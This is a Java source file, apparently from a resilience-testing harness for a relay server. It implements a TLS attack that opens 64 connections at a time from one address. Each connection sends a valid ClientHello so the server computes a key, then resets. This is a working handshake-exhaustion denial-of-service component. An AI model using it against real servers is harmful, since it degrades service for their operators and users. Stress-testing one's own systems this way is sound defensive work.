package far.relay.attack;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.buffer.UnpooledByteBufAllocator;
import io.netty.channel.ChannelFutureListener;
import io.netty.channel.ChannelHandlerContext;
import java.io.IOException;
import java.nio.ByteBuffer;
import javax.net.ssl.SSLEngine;

/** Connections from one address that send a valid ClientHello, for which the server computes a key, and then reset. */
final class ClientHellos implements TlsAttack {
    private static final int AT_A_TIME = 64;

    @Override
    public Running start(Target target) throws IOException {
        ByteBuf hello = hello();
        return Horde.startRaw(target, AT_A_TIME, () -> new Sender(hello));
    }

    private static ByteBuf hello() throws IOException {
        SSLEngine engine = Target.context().newEngine(UnpooledByteBufAllocator.DEFAULT);
        ByteBuffer hello = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
        engine.beginHandshake();
        engine.wrap(ByteBuffer.allocate(0), hello);
        return Unpooled.unreleasableBuffer(Unpooled.wrappedBuffer(hello.flip()));
    }

    private static final class Sender extends HostileClient {
        private final ByteBuf hello;

        Sender(ByteBuf hello) {
            this.hello = hello;
        }

        @Override
        public void channelActive(ChannelHandlerContext ctx) {
            ctx.writeAndFlush(hello.duplicate()).addListener(ChannelFutureListener.CLOSE);
        }
    }

    @Override
    public String toString() {
        return "one address sends ClientHellos and resets";
    }
}
